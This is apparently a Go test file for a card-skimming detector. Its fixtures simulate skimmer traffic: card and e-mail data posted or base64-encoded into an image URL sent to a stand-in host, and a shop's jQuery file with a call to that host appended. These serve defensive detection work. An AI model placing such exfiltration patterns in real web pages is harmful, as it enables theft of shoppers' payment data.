package page

import (
	"encoding/base64"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/tillwatch/tillwatch"
	"github.com/tillwatch/tillwatch/sensor/page/browser"
	"github.com/tillwatch/tillwatch/sensor/page/witness"
)

func TestJudge(t *testing.T) {
	card, mail, name := someSet.Card.Number, someSet.Person.Email, someSet.Person.Name()
	order := "number=" + card + "&cvc=" + someSet.Card.Code + "&email=" + mail
	loot := base64.StdEncoding.EncodeToString([]byte(order))
	pay := browser.Request{Method: "POST", URL: "https://shop.example/order", Type: "Document", Body: tillwatch.NewBody([]byte(order))}
	cases := map[string]struct {
		requests  []browser.Request
		exchanges []witness.Exchange
		severity  tillwatch.Severity // 0: no sign
		certainty tillwatch.Certainty
		field     string
	}{
		"the payment request alone":                   {requests: []browser.Request{pay}},
		"a card at a foreign host":                    {requests: []browser.Request{post("https://x.example/c", order), pay}, severity: tillwatch.Critical, certainty: tillwatch.Certain, field: "card.number"},
		"hidden in the address of a picture":          {requests: []browser.Request{{Method: "GET", Type: "Image", URL: "https://x.example/p.gif?d=" + loot}, pay}, severity: tillwatch.Critical, certainty: tillwatch.Certain, field: "card.code"},
		"name and e-mail at a foreign host":           {requests: []browser.Request{post("https://x.example/c", "n="+name+"&m="+mail)}, severity: tillwatch.Critical, certainty: tillwatch.Certain, field: "email"},
		"an e-mail alone":                             {requests: []browser.Request{post("https://x.example/c", "m="+mail)}, severity: tillwatch.Low, certainty: tillwatch.Certain},
		"a card at a famous host that is no provider": {requests: []browser.Request{post("https://www.google-analytics.com/collect", "dl="+card)}, severity: tillwatch.Critical, certainty: tillwatch.Certain},
		"a card at a provider":                        {requests: []browser.Request{post("https://api.stripe.com/v1/tokens", "card[number]="+card)}},
		"a card at a provider's telemetry":            {requests: []browser.Request{post("https://r.stripe.com/0", "x="+card)}, severity: tillwatch.Critical, certainty: tillwatch.Certain},
		"a mail address at a provider":                {requests: []browser.Request{post("https://r.stripe.com/0", "x="+mail+name)}},
		"a second copy on the shop's own host":        {requests: []browser.Request{post("https://shop.example/media/x.php", loot), pay}, severity: tillwatch.High, certainty: tillwatch.Likely, field: "card.number"},
		"the only copy, but to a picture":             {requests: []browser.Request{post("https://shop.example/img/logo.png", order)}, severity: tillwatch.High, certainty: tillwatch.Likely},
		"only the witness saw it":                     {exchanges: []witness.Exchange{{At: noon.Add(time.Second), Method: "POST", URL: "https://x.example/b", Body: tillwatch.NewBody([]byte(loot))}}, severity: tillwatch.Critical, certainty: tillwatch.Certain, field: "card.number"},
		"nothing of the customer's":                   {requests: []browser.Request{post("https://x.example/c", `{"event":"click"}`)}},
	}
	for name, c := range cases {
		v := aVisit(c.requests...)
		v.pressed = noon
		v.exchanges = c.exchanges
		signs := judge(v, atShop)
		if c.severity == 0 {
			if len(signs) > 0 {
				t.Errorf("%s: %+v", name, signs)
			}
			continue
		}
		if len(signs) != 1 || signs[0].Severity != c.severity || signs[0].Certainty != c.certainty {
			t.Errorf("%s: %+v, want one sign, %v and %v", name, signs, c.severity, c.certainty)
			continue
		}
		if s := signs[0]; c.field != "" && (len(s.Evidence) == 0 || !slices.Contains(s.Evidence[0].Fields, c.field)) {
			t.Errorf("%s: %+v does not name the field %s", name, s.Evidence, c.field)
		}
	}
}

// No sign, whatever it tells, may hold what was typed.
func TestSignsHoldNothingThatWasTyped(t *testing.T) {
	card := someSet.Card.Number
	v := aVisit(post("https://"+card+".x.example/"+card+"/"+someSet.Person.Email+"?d="+card, card))
	for _, s := range append(judge(v, atShop), v.mismatches(atShop)...) {
		var text strings.Builder
		for _, e := range s.Evidence {
			text.WriteString(e.What + e.Where + e.Destination)
		}
		if all := s.Place + s.Summary + text.String(); strings.Contains(all, card) || strings.Contains(all, someSet.Person.Email) {
			t.Errorf("%+v", s)
		}
	}
}

func TestBlame(t *testing.T) {
	jquery, err := os.ReadFile("../../demoshop/files/docroot/assets/vendor/jquery/jquery.min.js")
	if err != nil {
		t.Fatal(err)
	}
	library := browser.Script{ID: "1", Session: "s", URL: "https://shop.example/jquery.js", Source: string(jquery)}
	touched := browser.Script{ID: "5", Session: "s", URL: "https://shop.example/jquery.js", Source: string(jquery) + ";fetch('//x.example')"}
	theme := browser.Script{ID: "2", Session: "s", URL: "https://shop.example/theme.js", SHA256: strings.Repeat("0", 64)}
	made := browser.Script{ID: "3", Session: "s", Claimed: "https://cdn.example/innocent.js", Parent: []browser.Call{{ScriptID: "2", URL: theme.URL, Line: 9, Column: 4}}}
	v := aVisit()
	v.scripts = []browser.Script{library, touched, theme, made}
	wrapper := browser.Script{ID: "4", Session: "s", URL: "https://shop.example/tracker.js", SHA256: strings.Repeat("1", 64)}
	v.scripts = append(v.scripts, wrapper)
	b := newBlame(v)
	in := func(s browser.Script, line int) browser.Call {
		return browser.Call{ScriptID: s.ID, URL: s.URL + s.Claimed, Line: line, Column: 1}
	}
	b.learn(&sending{session: "s", stack: []browser.Call{in(wrapper, 3)}, url: "https://shop.example/api/cart"})
	for name, c := range map[string]struct {
		stack []browser.Call
		where string
		line  int
	}{
		"a wrapped fetch that everything goes through": {[]browser.Call{in(wrapper, 3), in(theme, 40)}, theme.URL, 40},
		"a published library does what it is told":     {[]browser.Call{in(library, 2), in(theme, 40), in(library, 2)}, theme.URL, 40},
		"a library that somebody added to":             {[]browser.Call{in(touched, 2), in(theme, 40)}, touched.URL, 2},
		"only the library is on the stack":             {[]browser.Call{in(library, 2)}, library.URL, 2},
		"code made at run time":                        {[]browser.Call{in(made, 1)}, theme.URL, 9},
	} {
		e := b.evidence(&sending{session: "s", stack: c.stack, url: "https://x.example/"}, nil, "")
		if e.Where != c.where || e.Line != c.line {
			t.Errorf("%s: %s line %d, want %s line %d", name, e.Where, e.Line, c.where, c.line)
		}
	}
}
